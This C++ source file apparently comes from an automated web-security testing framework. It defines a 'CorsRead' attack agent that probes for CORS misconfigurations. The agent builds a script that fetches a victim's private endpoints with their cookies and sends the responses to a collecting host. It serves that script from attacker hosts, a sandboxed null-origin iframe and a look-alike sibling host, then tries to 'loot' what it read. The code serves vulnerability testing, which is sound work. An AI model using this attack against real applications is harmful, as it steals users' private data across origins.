// cors-read: a page of the attacker's asks the app for private answers with the victim's cookies
// and reads them, if the app lets his origin: evil hosts by name, hosts that look like the app's,
// and "null" out of a sandboxed frame (Fetch, "CORS protocol"; OWASP HTML5 Security Cheat Sheet).
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"

namespace parapet::attack {
namespace {

class CorsRead final : public Agent {
    void run(Target& target) override {
        std::vector<OwnHost*> const hosts = foreign_hosts(target);
        if (hosts.empty() || !victim_signs_in(target)) return;
        OwnHost* const first = hosts.front();
        std::string const address = collecting_address(*first);
        std::string script;
        // A rule may know the path in one spelling, where the router takes others for the same.
        for (Endpoint const* each : private_endpoints(target))
            for (std::string const& page :
                 {address_of(target, *each), address_otherwise(target, *each)})
                script += fetch_and_send(page, address);
        std::string const html = "<script>" + script + "</script>";
        for (OwnHost* host : hosts) Lure(target, *host).show(html);
        Lure(target, *first)
            .show("<iframe sandbox=\"allow-scripts\" srcdoc=" + in_quotes(html) + "></iframe>");
        if (OwnHost* sibling = sibling_host(target)) Lure(target, *sibling).show(html);
        auto const texts = received_texts(target);
        target.note(std::to_string(texts.size()) + " answers could be read on other origins.");
        try_loot(target, texts);
    }
};

}  // namespace

std::unique_ptr<Agent> make_cors_read() { return std::make_unique<CorsRead>(); }

}  // namespace parapet::attack
